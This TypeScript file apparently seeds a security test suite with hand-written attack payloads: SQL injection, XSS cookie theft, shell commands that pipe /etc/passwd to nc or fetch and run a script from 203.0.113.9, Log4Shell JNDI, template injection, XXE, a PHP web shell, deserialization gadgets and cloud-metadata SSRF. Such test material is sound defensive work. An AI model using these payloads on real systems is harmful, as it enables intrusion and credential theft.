/** Attacks that the evasions start from, written by hand. Tests may hold attack strings; training data never does. */
export type AttackClass =
  | 'sql'
  | 'xss'
  | 'shell'
  | 'traversal'
  | 'template'
  | 'jndi'
  | 'xxe'
  | 'ldap'
  | 'nosql'
  | 'php'
  | 'java'
  | 'ssrf'
  | 'ssi'
  | 'xpath';

export interface Payload {
  readonly name: string;
  readonly class: AttackClass;
  readonly text: string;
}

export const PAYLOADS: readonly Payload[] = [
  { name: 'sql-union', class: 'sql', text: "x' UNION SELECT username, password FROM users-- -" },
  { name: 'sql-boolean', class: 'sql', text: "1' OR 1=1 ORDER BY 1-- -" },
  { name: 'sql-sleep', class: 'sql', text: "1' AND (SELECT 1 FROM (SELECT SLEEP(5)) a) AND '1'='1" },
  { name: 'sql-stacked', class: 'sql', text: "1; EXEC xp_cmdshell('whoami')--" },
  { name: 'xss-script', class: 'xss', text: '<script>alert(document.cookie)</script>' },
  { name: 'xss-event', class: 'xss', text: '"><img src=x onerror=alert(document.domain)>' },
  { name: 'shell-pipe', class: 'shell', text: '; cat /etc/passwd | nc 203.0.113.9 4444' },
  { name: 'shell-substitution', class: 'shell', text: '$(curl http://203.0.113.9/x.sh|sh)' },
  { name: 'traversal', class: 'traversal', text: '../../../../../../etc/passwd' },
  {
    name: 'template-python',
    class: 'template',
    text: "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
  },
  {
    name: 'template-java',
    class: 'template',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a template of the application, not ours.
    text: "${T(java.lang.Runtime).getRuntime().exec('id')}",
  },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is Log4j's template, not ours.
  { name: 'log4shell', class: 'jndi', text: '${jndi:ldap://203.0.113.9:1389/a}' },
  {
    name: 'xxe',
    class: 'xxe',
    text: '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
  },
  { name: 'ldap-filter', class: 'ldap', text: '*)(uid=*))(|(uid=*)(userPassword=*)' },
  { name: 'nosql-where', class: 'nosql', text: "'; return this.password.match(/^a.*/); var x='" },
  { name: 'php-tag', class: 'php', text: "<?php system($_GET['c']); ?>" },
  {
    name: 'php-object',
    class: 'php',
    text: 'O:8:"Evil\\Run":2:{s:3:"cmd";s:15:"id > /tmp/x; ls";s:4:"file";s:11:"/etc/passwd";}',
  },
  {
    name: 'java-ognl',
    class: 'java',
    text: "%{(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
  },
  {
    name: 'java-yaml',
    class: 'java',
    text: '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.9/"]]]]',
  },
  { name: 'ssrf-metadata', class: 'ssrf', text: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' },
  { name: 'ssi', class: 'ssi', text: '<!--#exec cmd="cat /etc/passwd" -->' },
  { name: 'xpath', class: 'xpath', text: "' or count(/*)=1 or 'a'='b" },
];
